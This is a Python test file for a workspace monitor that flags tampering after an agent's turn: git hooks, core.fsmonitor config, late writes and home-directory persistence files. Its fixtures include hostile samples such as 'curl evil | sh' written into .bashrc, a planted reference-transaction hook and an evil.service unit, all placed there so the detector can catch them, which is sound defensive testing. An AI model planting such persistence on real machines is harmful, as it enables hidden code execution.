"""After a turn: alerts about the git folder and the home, and files that are written too late."""

import asyncio
import os
from pathlib import Path

import pytest
from workspace_world import World, git

from loopctl.domain.alert import Harm
from loopctl.git.snapshot import Snapshotter
from loopctl.workspace.home_watch import HomeWatch, home_of


@pytest.fixture
def running(world) -> World:
    """A loop whose own driver has prepared the worktree."""
    asyncio.run(world.workspace.prepare(None, first_time=True, branch_tip=world.base))
    return world


def test_tampering_of_a_turn_is_in_its_snapshot_and_the_files_are_judged_all_the_same(running):
    running.write("app.py", "fixed\n")
    git(running.folder, "config", "core.fsmonitor", "/tmp/evil")
    taken = running.take()
    (alert,) = taken.alerts
    assert (alert.kind, alert.what, alert.reverted) == ("git-config", "core.fsmonitor", True)
    assert Path(alert.kept).parent == running.index.parent / "put-back"
    assert running.files(taken.tree)["app.py"] == b"fixed\n"
    assert running.take(2, taken).alerts == ()


def test_what_an_evaluation_plants_is_found_before_the_branch_is_moved(running):
    taken = running.take()
    hook = running.top / ".git" / "hooks" / "reference-transaction"
    hook.write_text("#!/bin/sh\ntouch /tmp/evil\n")
    hook.chmod(0o755)
    published = running.publish(taken)
    assert "git-hook: hooks/reference-transaction is new; it was put back" in published.note
    assert not hook.exists()


def test_work_of_the_user_between_two_drivers_is_no_alert_after_an_orderly_end(running):
    taken = running.take()
    running.publish(taken)
    git(running.top, "config", "core.hooksPath", "/tmp/mine")
    restarted = running.restarted()
    running.workspace = restarted
    asyncio.run(restarted.prepare(taken, first_time=False, branch_tip=running.base))
    assert running.take(2, taken).alerts == ()
    assert git(running.top, "config", "core.hooksPath") == "/tmp/mine"


def test_a_worktree_that_was_made_again_has_a_git_file_of_its_own(running):
    taken = running.take()
    running.folder.rename(running.folder.with_name("gone"))
    running.workspace = running.restarted()
    asyncio.run(running.workspace.prepare(taken, first_time=False, branch_tip=running.base))
    assert [each for each in running.take(2, taken).alerts if each.harm is Harm.ACTS] == []


@pytest.fixture
def late_writer(monkeypatch):
    """Writes a file each time when a tree was just taken, so many times."""
    original = Snapshotter.take

    def install(folder: Path, times: int) -> None:
        left = list(range(times))

        def take(self, *arguments, **named):
            taken = original(self, *arguments, **named)
            if left:
                (folder / "app.py").write_text(f"late {left.pop()} {'x' * len(left)}\n")
            return taken

        monkeypatch.setattr(Snapshotter, "take", take)

    return install


def test_late_writes_are_named_and_the_tree_is_taken_again(running, late_writer):
    late_writer(running.folder, 1)
    taken = running.take()
    assert taken.late == ("app.py",)
    assert any("after the turn had ended" in note for note in taken.notes)
    assert running.files(taken.tree)["app.py"].startswith(b"late 0")


def test_a_writer_that_never_ends_does_not_hold_the_loop(running, late_writer):
    late_writer(running.folder, 1_000)
    taken = running.take()
    assert taken.late == ("app.py",)


def test_files_of_the_home_that_act_later_are_told_and_stay(tmp_path):
    (tmp_path / ".config" / "git").mkdir(parents=True)
    (tmp_path / ".bashrc").write_text("old\n")
    (tmp_path / ".profile").write_text("old\n")
    watch = HomeWatch(tmp_path)
    watch.begin()
    (tmp_path / ".bashrc").write_text("curl evil | sh\n")
    (tmp_path / ".profile").unlink()
    (tmp_path / ".config" / "git" / "config").write_text("[core]\n")
    units = tmp_path / ".config" / "systemd" / "user"
    (units / "default.target.wants").mkdir(parents=True)
    (units / "default.target.wants" / "evil.service").write_text("x\n")
    site = tmp_path / ".local" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    (site / "usercustomize.py").write_text("x\n")
    (site / "evil.pth").write_text("import x\n")
    (site / "harmless.py").write_text("x\n")
    (tmp_path / ".local" / "bin").mkdir()
    (tmp_path / ".local" / "bin" / "tool").write_text("x\n")
    found = {each.what: (each.detail, each.harm, each.reverted) for each in watch.compare()}
    assert found == {
        "~/.bashrc": ("was changed", Harm.ACTS, False),
        "~/.profile": ("is gone", Harm.TOLD, False),
        "~/.config/git/config": ("is new", Harm.ACTS, False),
        "~/.config/systemd/user/default.target.wants/evil.service": ("is new", Harm.ACTS, False),
        "~/.local/lib/python3.11/site-packages/usercustomize.py": ("is new", Harm.ACTS, False),
        "~/.local/lib/python3.11/site-packages/evil.pth": ("is new", Harm.ACTS, False),
        "~/.local/bin/tool": ("is new", Harm.TOLD, False),
    }
    assert watch.compare() == ()
    assert (tmp_path / ".bashrc").read_text() == "curl evil | sh\n"


def test_a_hostile_home_holds_nothing(tmp_path):
    watch = HomeWatch(tmp_path)
    watch.begin()
    os.mkfifo(tmp_path / ".bashrc")
    (tmp_path / ".profile").symlink_to("/nonexistent")
    (tmp_path / ".local").symlink_to(tmp_path)
    assert [each.what for each in watch.compare()] == ["~/.bashrc"]
    assert watch.compare() == ()


def test_a_home_is_an_absolute_path():
    assert home_of({}) is None
    assert home_of({"HOME": "relative"}) is None
    assert home_of({"HOME": "/home/ada"}) == Path("/home/ada")
